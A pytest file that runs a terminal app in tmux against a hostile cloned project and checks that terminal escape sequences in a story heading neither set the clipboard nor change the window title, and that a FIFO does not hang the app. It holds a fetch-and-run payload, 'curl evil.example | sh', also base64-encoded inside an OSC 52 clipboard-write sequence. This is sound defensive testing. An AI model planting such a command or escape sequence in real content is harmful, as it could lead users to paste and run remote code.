"""The app in a real terminal (tmux) on a hostile clone: a story heading carrying OSC 52 (set
the clipboard) and OSC 0 (set the window title) changes neither, a FIFO named
``sprint-status.yaml`` does not block it, and ``q`` quits."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
from hostile._read_helpers import ARTIFACTS, make_cloned

pytestmark = pytest.mark.tmux

TMUX = shutil.which("tmux")
WAIT_LIMIT_SECONDS = 60.0
PAYLOAD = "curl evil.example | sh"
# base64 of PAYLOAD, as an OSC 52 clipboard write carries it.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE = "\x1b]0;pwned-title\x07"


def _tmux(socket: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [TMUX or "tmux", "-L", socket, *args], capture_output=True, text=True, check=False
    )


def test_the_app_in_tmux_shows_escapes_without_obeying_them(tmp_path: Path) -> None:
    if TMUX is None:
        pytest.skip("tmux is not installed: the real-terminal hostile test needs it")
    hostile = make_cloned(
        tmp_path,
        {f"{ARTIFACTS}/1-1-first-story.md": f"# Story 1.1: Evil {OSC52}title{TITLE} here\n"},
    )
    fifo = hostile.root / ARTIFACTS / "sprint-status.yaml"
    fifo.unlink()
    os.mkfifo(fifo)
    socket = f"promptdeck-hostile-{uuid.uuid4().hex[:8]}"
    env = {**hostile.env, "XDG_CONFIG_HOME": str(tmp_path / "xdg"), "TERM": "xterm-256color"}
    script = Path(sys.executable).with_name("promptdeck")
    command = " ".join(
        [
            "env",
            *(f"{key}={shlex.quote(value)}" for key, value in env.items()),
            shlex.quote(str(script)),
            shlex.quote(str(hostile.root)),
        ]
    )
    started = _tmux(socket, "-f", "/dev/null", "new-session", "-d", "-s", "h", "-x", "160",
                    "-y", "45", command)  # fmt: skip
    assert started.returncode == 0, started.stderr
    try:
        _tmux(socket, "set-option", "-g", "set-clipboard", "on")
        _tmux(socket, "set-option", "-g", "allow-rename", "on")
        begin = time.monotonic()
        screen = ""
        while time.monotonic() - begin < WAIT_LIMIT_SECONDS:
            screen = _tmux(socket, "capture-pane", "-p", "-t", "h").stdout
            if "Layer-0A" in screen and "Evil" in screen:
                break
            time.sleep(0.2)
        assert "Layer-0A" in screen and "Evil ␛]52;c;" in screen, screen
        buffers = _tmux(socket, "list-buffers").stdout
        assert PAYLOAD not in buffers and "Y3VybCBl" not in buffers
        title = _tmux(socket, "display-message", "-p", "-t", "h", "#{pane_title}").stdout
        assert "pwned-title" not in title
        _tmux(socket, "send-keys", "-t", "h", "q")
        begin = time.monotonic()
        while time.monotonic() - begin < WAIT_LIMIT_SECONDS:
            if _tmux(socket, "has-session", "-t", "h").returncode != 0:
                break
            time.sleep(0.2)
        assert _tmux(socket, "has-session", "-t", "h").returncode != 0, "q did not quit"
    finally:
        _tmux(socket, "kill-server")
